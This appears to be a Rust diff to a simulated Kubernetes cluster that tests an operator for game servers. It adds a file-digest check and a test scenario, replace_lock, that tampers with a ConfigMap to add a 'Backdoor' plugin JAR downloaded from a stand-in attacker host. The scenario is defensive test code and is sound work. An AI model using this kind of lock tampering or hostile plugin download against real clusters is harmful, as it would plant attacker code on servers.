@@ -10,8 +10,8 @@ use std::time::Duration;
 use agent::config;
 use agent::init;
 use agent::init::InitResult;
-use agent_api::FileSet;
 use agent_api::signature::Key as AgentKey;
+use agent_api::{FILES_KEY, File, FileHash, FileSet};
 use clap::{CommandFactory, Parser};
 use jiff::{SignedDuration, Timestamp};
 use k8s_openapi::ByteString;
@@ -25,12 +25,13 @@ use super::objects::Key;
 use super::scenario::SetBehaviour;
 use crate::clock::now;
 use crate::server::observe::pending::Lack;
-use crate::server::render::lock_config_map::FILES_KEY;
 use crate::server::render::secret::{AGENT_KEY, RCON_PASSWORD, secret_name};
-use validate::image_contract::{ENABLE_RCON, PREPARE_CONTAINER, SERVER_CONTAINER};
+use validate::image_contract::{ENABLE_RCON, FILES_DIGEST, PREPARE_CONTAINER, SERVER_CONTAINER};
 
 /// The time limit of the real init container for a world of a few files.
 const INIT_TIMEOUT: Duration = Duration::from_secs(30);
+/// The file with the termination message.
+const TERMINATION_LOG: &str = "last-words";
 /// The longest pause of the kubelet between two starts of a container.
 const MAX_BACKOFF: SignedDuration = SignedDuration::from_mins(5);
 
@@ -69,6 +70,8 @@ pub(super) struct Pod {
     /// When its init container was started first.
     prepare_began_at: Timestamp,
     pub(super) prepared_at: Option<Timestamp>,
+    /// The message of the init container that let the server start.
+    prepare_message: String,
     /// When the server's current or last process was started.
     pub(super) started_at: Timestamp,
     pub(super) up_since: Timestamp,
@@ -234,6 +237,7 @@ impl SimCluster {
             taken_at: now(),
             prepare_began_at: now(),
             prepared_at: None,
+            prepare_message: String::new(),
             started_at: now(),
             up_since: now(),
             starts: 0,
@@ -254,13 +258,39 @@ impl SimCluster {
         self.write_status();
     }
 
+    /// The files that the pod may start with. If its lock was replaced, they are those of an earlier pod.
     fn files_of(&mut self, pod: &Value) -> FileSet {
-        let volumes = pod["spec"]["volumes"].as_array().expect("volumes");
-        let lock = volumes.iter().find(|volume| volume["name"] == "lock").expect("the lock's volume");
-        let map = Key::new("configmaps", lock["configMap"]["name"].as_str().expect("a name"));
         // Without it the pod would never start.
-        let map = self.objects.get(&map).expect("the lock exists when its pod starts");
-        serde_json::from_str(map["data"][FILES_KEY].as_str().expect("files")).expect("files of a lock")
+        let map = self.objects.get(&lock_of(pod)).expect("the lock exists when its pod starts");
+        let mounted: FileSet =
+            serde_json::from_str(map["data"][FILES_KEY].as_str().expect("files")).expect("files of a lock");
+        let variables = prepare_of(pod)["env"].as_array().expect("an environment");
+        let named = variables.iter().find(|variable| variable["name"] == FILES_DIGEST).expect("a digest");
+        let digest = named["value"].as_str().expect("a digest").to_owned();
+        if mounted.digest() == digest {
+            self.started_sets.insert(digest, mounted.clone());
+            return mounted;
+        }
+        self.started_sets.get(&digest).cloned().expect("a pod with these files has started before")
+    }
+
+    /// Somebody who may write `ConfigMap`s replaces the lock of the pod: it names a foreign JAR, and keeps all else.
+    pub(super) fn replace_lock(&mut self) {
+        let key = lock_of(self.objects.get(&self.pod_key()).expect("the pod exists"));
+        let mut map = self.objects.get(&key).expect("the lock exists").clone();
+        let mut files: FileSet =
+            serde_json::from_str(map["data"][FILES_KEY].as_str().expect("files")).expect("files of a lock");
+        files.plugins.push(File {
+            path: "plugins/Backdoor-1.0.jar".to_owned(),
+            hash: FileHash(format!("sha256:{}", "0".repeat(64))),
+            size: None,
+            url: "http://attacker.example/Backdoor-1.0.jar".to_owned(),
+            plugin: Some("Backdoor".to_owned()),
+            provides: Vec::new(),
+        });
+        map["data"][FILES_KEY] = json!(serde_json::to_string(&files).expect("files"));
+        self.objects.remove(&key);
+        self.objects.create("configmaps", map, now()).expect("the name is free");
     }
 
     fn secret(&self, key: &str) -> String {
@@ -293,8 +323,7 @@ impl SimCluster {
             }
             paths.insert(name, path);
         }
-        let containers = pod["spec"]["initContainers"].as_array().expect("init containers");
-        let prepare = containers.iter().find(|container| container["name"] == PREPARE_CONTAINER).expect("prepare");
+        let prepare = prepare_of(&pod);
         let mut arguments = vec!["prepare".to_owned()];
         let flags: Vec<String> = Line::command()
             .get_arguments()
@@ -313,7 +342,7 @@ impl SimCluster {
                 arguments.push(format!("{flag}={value}"));
             }
         }
-        let (termination_log, hook) = (mounts.join("last-words"), mounts.join("hook"));
+        let (termination_log, hook) = (mounts.join(TERMINATION_LOG), mounts.join("hook"));
         std::fs::write(&hook, b"").expect("a file");
         arguments.push(format!("--termination-log={}", termination_log.display()));
         arguments.push(format!("--hook={}", hook.display()));
@@ -330,8 +359,15 @@ impl SimCluster {
         match outcome {
             Some(InitResult::Ready(_)) => {
                 self.check_unseen_stop();
+                let message = std::fs::read_to_string(self.disks.mounts().join(TERMINATION_LOG)).unwrap_or_default();
+                if !message.is_empty() {
+                    self.trace(format!(
+                        "init container: starts the server, and says: {}",
+                        message.replace('\n', " / ")
+                    ));
+                }
                 let pod = self.pod.as_mut().expect("the pod exists");
-                (pod.prepared_at, pod.init_attempts) = (Some(now()), 0);
+                (pod.prepared_at, pod.init_attempts, pod.prepare_message) = (Some(now()), 0, message);
                 pod.agent.start(now());
                 if self.is_scripted() {
                     self.load_staged();
@@ -492,7 +528,10 @@ impl SimCluster {
             })
         };
         let prepare = match (&pod.phase, pod.prepared_at) {
-            (_, Some(done)) => (json!({"terminated": {"exitCode": 0, "finishedAt": at(done)}}), json!({})),
+            (_, Some(done)) => {
+                let end = json!({"exitCode": 0, "finishedAt": at(done), "message": pod.prepare_message});
+                (json!({"terminated": end}), json!({}))
+            }
             (Phase::Refused(message), None) => {
                 let end = json!({"exitCode": 3, "finishedAt": at(now()), "message": message});
                 (json!({"waiting": {"reason": "CrashLoopBackOff"}}), json!({"terminated": end}))
@@ -523,6 +562,18 @@ impl SimCluster {
     }
 }
 
+fn prepare_of(pod: &Value) -> &Value {
+    let containers = pod["spec"]["initContainers"].as_array().expect("init containers");
+    containers.iter().find(|container| container["name"] == PREPARE_CONTAINER).expect("prepare")
+}
+
+/// The `ConfigMap` of the lock that the pod mounts.
+fn lock_of(pod: &Value) -> Key {
+    let volumes = pod["spec"]["volumes"].as_array().expect("volumes");
+    let lock = volumes.iter().find(|volume| volume["name"] == "lock").expect("the lock's volume");
+    Key::new("configmaps", lock["configMap"]["name"].as_str().expect("a name"))
+}
+
 /// Whether the pod template enables RCON in the server's image.
 fn has_rcon(pod: &Value) -> bool {
     let containers = pod["spec"]["containers"].as_array().into_iter().flatten();
@@ -536,7 +587,7 @@ fn host_path(value: &str, mounts: &Value, paths: &BTreeMap<String, PathBuf>) -> 
         let (mount_path, name) =
             (mount["mountPath"].as_str().unwrap_or_default(), mount["name"].as_str().unwrap_or_default());
         if let Ok(rest) = Path::new(value).strip_prefix(mount_path) {
-            let path = paths[name].join(rest);
+            let path = paths[name].join(mount["subPath"].as_str().unwrap_or_default()).join(rest);
             return path.display().to_string();
         }
     }
